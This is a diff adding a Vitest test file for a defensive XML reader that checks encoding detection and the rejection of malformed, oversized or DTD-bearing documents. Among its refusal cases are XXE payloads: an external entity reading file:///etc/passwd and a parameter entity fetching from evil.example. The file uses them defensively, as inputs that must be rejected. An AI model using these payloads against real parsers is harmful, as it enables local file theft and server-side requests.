@@ -1,0 +1,114 @@
+import { describe, expect, it } from 'vitest'
+import { findTree, readXml, textAt, XML_MAX_BYTES } from './readXml'
+import { XmlError } from './xmlError'
+
+const utf8 = (text: string) => new TextEncoder().encode(text)
+const latin1 = (text: string) => Buffer.from(text, 'latin1')
+const utf16 = (text: string) => Buffer.from(text, 'utf16le')
+const swapped = (text: string) => utf16(text).swap16()
+const withMark = (mark: number[], bytes: Uint8Array) => Buffer.concat([Buffer.from(mark), bytes])
+
+const MISFIT = 'The document is not in the encoding that it declares'
+const DECLARES = 'The document declares a type of its own'
+const ILL_FORMED = 'The document is not well formed'
+
+function refusalOf(bytes: Uint8Array): string {
+  try {
+    readXml(bytes)
+  } catch (error) {
+    if (error instanceof XmlError) return error.message
+    throw error
+  }
+  return 'read'
+}
+
+describe('the tree of a document', () => {
+  it('has elements, attributes and text with everything resolved once', () => {
+    const root = readXml(
+      utf8(
+        '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.045/cXML.dtd">' +
+          '<a x="1 &lt; 2" __proto__="y"><b>&amp;lt; &#x1F345;&#252;<!-- no --> <![CDATA[&amp;<c>]]></b> <b/></a>',
+      ),
+    )
+    expect([root.name, ...root.attributes]).toEqual(['a', ['x', '1 < 2'], ['__proto__', 'y']])
+    expect(root.children.map(({ name }) => name)).toEqual(['b', 'b'])
+    expect(textAt(root, 'b')).toBe('&lt; 🍅ü &amp;<c>')
+    expect(findTree(root, 'b', 'c')).toBeUndefined()
+    expect(textAt(root, 'd')).toBe('')
+  })
+})
+
+describe('the encoding of a document', () => {
+  const declaring = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?><a>Öl 5€</a>`
+  it.each([
+    ['UTF-8 without a word', utf8('<a>Öl 5€</a>')],
+    ['UTF-8', utf8(declaring('UTF-8'))],
+    ['UTF-8 with a mark', withMark([0xef, 0xbb, 0xbf], utf8(declaring('utf-8')))],
+    ['UTF-16 with a mark', withMark([0xff, 0xfe], utf16(declaring('UTF-16')))],
+    ['UTF-16 the other way around', withMark([0xfe, 0xff], swapped(declaring('UTF-16')))],
+    ['UTF-16 by its name', utf16(declaring('UTF-16LE'))],
+    ['UTF-16 the other way around by its name', swapped(declaring('utf-16be'))],
+    ['Windows-1252', latin1(declaring('windows-1252').replace('€', '\x80'))],
+    ['Latin 1', latin1(declaring('ISO-8859-1').replace('€', '\x80'))],
+  ])('is %s', (_, bytes) => {
+    expect(readXml(bytes).text).toBe('Öl 5€')
+  })
+
+  it.each([
+    ['UTF-8 that is Latin 1', latin1('<a>Öl</a>'), MISFIT],
+    ['declared as UTF-8, and is Latin 1', latin1(declaring('UTF-8').replace('€', '')), MISFIT],
+    ['declared as UTF-16, and is UTF-8', utf8(declaring('UTF-16')), MISFIT],
+    ['declared as UTF-8, and is UTF-16', withMark([0xff, 0xfe], utf16(declaring('UTF-8'))), MISFIT],
+    ['marked as UTF-8, declared as Latin 1', withMark([0xef, 0xbb, 0xbf], utf8(declaring('latin1'))), MISFIT],
+    ['of the other order', withMark([0xff, 0xfe], utf16(declaring('UTF-16BE'))), MISFIT],
+    ['half a character', withMark([0xff, 0xfe], utf16('<a/>').subarray(0, 7)), MISFIT],
+    ['declared as ASCII, and is not', utf8(declaring('us-ascii')), MISFIT],
+    ['unheard of', utf8(declaring('ebcdic-cp-be')), 'The encoding of the document is not supported'],
+    ['UTF-32', withMark([0xff, 0xfe, 0, 0], Buffer.from('<\0\0\0a\0\0\0/\0\0\0>\0\0\0')), ILL_FORMED],
+  ])('is refused: %s', (_, bytes, reason) => {
+    expect(refusalOf(bytes)).toBe(reason)
+  })
+})
+
+describe('a document is refused', () => {
+  const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`
+  const attributes = (count: number) =>
+    `<a ${Array.from({ length: count }, (_, index) => `b${index}=""`).join(' ')}/>`
+  it.each([
+    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', DECLARES],
+    ['entities of its own', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', DECLARES],
+    ['parameter entities', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><a/>', DECLARES],
+    ['declarations besides the DTD', '<!DOCTYPE a SYSTEM "a.dtd" [<!ATTLIST a b CDATA "c">]><a/>', DECLARES],
+    ['an entity that nobody knows', '<a>&nbsp;</a>', ILL_FORMED],
+    ['a character that is none', '<a>&#0;</a>', ILL_FORMED],
+    ['half a character', '<a>&#xD83C;</a>', ILL_FORMED],
+    ['nothing', '', ILL_FORMED],
+    ['blanks', '  \n', ILL_FORMED],
+    ['no element', '<?xml version="1.0"?><!-- nothing -->', ILL_FORMED],
+    ['text', 'hello', ILL_FORMED],
+    ['JSON', '{"cXML": {}}', ILL_FORMED],
+    ['two elements', '<a/><b/>', ILL_FORMED],
+    ['text behind', '<a/>b', ILL_FORMED],
+    ['an element that is open', '<a><b></a>', ILL_FORMED],
+    ['an end too many', '<a/></a>', ILL_FORMED],
+    ['an attribute twice', '<a b="1" b="2"/>', ILL_FORMED],
+    ['an attribute without quotes', '<a b=1/>', ILL_FORMED],
+    ['a tag that is cut off', '<a', ILL_FORMED],
+    ['a comment that is open', '<a><!-- </a>', ILL_FORMED],
+    ['too many attributes', attributes(51), 'An element has too many attributes'],
+    ['100,000 attributes', attributes(100_000), 'An element has too many attributes'],
+    ['too deep', nested(41), 'The document is nested too deeply'],
+    ['100,000 deep', '<a>'.repeat(100_000), 'The document is nested too deeply'],
+    ['too many elements', `<a>${'<b/>'.repeat(50_000)}</a>`, 'The document has too many elements'],
+    ['too large', `<a>${' '.repeat(XML_MAX_BYTES)}</a>`, 'The document is too large'],
+  ])('for %s', (_, text, reason) => {
+    expect(refusalOf(utf8(text))).toBe(reason)
+  })
+
+  it('at each limit, not before', () => {
+    expect(refusalOf(utf8(attributes(50)))).toBe('read')
+    expect(refusalOf(utf8(nested(40)))).toBe('read')
+    expect(refusalOf(utf8(`<a>${'<b/>'.repeat(49_999)}</a>`))).toBe('read')
+    expect(refusalOf(utf8(`<a>${' '.repeat(XML_MAX_BYTES - 7)}</a>`))).toBe('read')
+  })
+})
